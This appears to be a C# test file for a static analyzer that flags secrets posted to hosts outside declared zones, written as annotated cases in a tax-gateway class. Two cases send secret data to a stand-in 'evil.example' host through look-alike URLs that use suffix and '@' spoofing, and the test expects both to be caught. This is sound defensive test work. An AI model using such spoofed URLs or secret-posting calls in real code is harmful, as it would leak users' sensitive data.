// [HostZone]: a constant address of a declared host decides where a call leads
using System.Net.Http.Json;

[assembly: HostZone("*.office.example.jp", typeof(LgwanZone))]
[assembly: HostZone("tax.core.example.jp", typeof(MyNumberZone))]

internal sealed class TaxGateway
{
    private const string Base = "https://gw.office.example.jp/api/";
    private static readonly Uri Core = new("https://tax.core.example.jp/");
    private readonly HttpClient _lgwan = new() { BaseAddress = new Uri("https://gw.office.example.jp/") };
    private readonly HttpClient _core;

    public TaxGateway()
    {
        _core = new HttpClient();
        _core.BaseAddress = Core;
    }

    internal async Task Literal(HttpClient http)
    {
        await http.PostAsJsonAsync("https://tax.core.example.jp/register", Data.Secret()); // clean
        await http.PostAsJsonAsync("https://gw.office.example.jp/register", Data.Secret()); // want PK1002
        await http.PostAsJsonAsync("https://elsewhere.example.jp/register", Data.Secret()); // want PK1001
        await http.PostAsJsonAsync("https://tax.core.example.jp.evil.example/register", Data.Secret()); // want PK1001
        await http.PostAsJsonAsync("https://tax.core.example.jp@evil.example/register", Data.Secret()); // want PK1001
        await http.PostAsJsonAsync("https://TAX.core.example.jp:8443/register", Data.Secret()); // clean
    }

    internal async Task Built(HttpClient http, string path)
    {
        await http.PostAsJsonAsync(Base + path, Data.Secret()); // want PK1002
        await http.PostAsJsonAsync($"https://tax.core.example.jp/{path}", Data.Secret()); // clean
        await http.PostAsJsonAsync($"https://tax.core.example.jp{path}", Data.Secret()); // want PK1001
        await http.PostAsJsonAsync(new Uri(Core, "register"), Data.Secret()); // clean
        await http.PostAsJsonAsync(path, Data.Secret()); // want PK1001
    }

    internal async Task BaseAddresses()
    {
        await _core.PostAsJsonAsync("register", Data.Secret()); // clean
        await _lgwan.PostAsJsonAsync("register", Data.Secret()); // want PK1002
        await _core.PostAsJsonAsync("https://elsewhere.example.jp/register", Data.Plain()); // clean
    }

    internal async Task Message(HttpClient http)
    {
        var inside = new HttpRequestMessage(HttpMethod.Post, "https://tax.core.example.jp/") { Content = new StringContent(Data.Secret()) };
        await http.SendAsync(inside); // clean
        var outside = new HttpRequestMessage(HttpMethod.Post, "https://elsewhere.example.jp/") { Content = new StringContent(Data.Secret()) };
        await http.SendAsync(outside); // want PK1001
    }

    private static Task Post(HttpClient http, string address, string text) => http.PostAsJsonAsync(address, text);

    internal async Task ThroughHelper(HttpClient http)
    {
        await Post(http, "https://tax.core.example.jp/register", Data.Secret()); // clean
        await Post(http, "https://elsewhere.example.jp/register", Data.Secret()); // want PK1001
    }
}
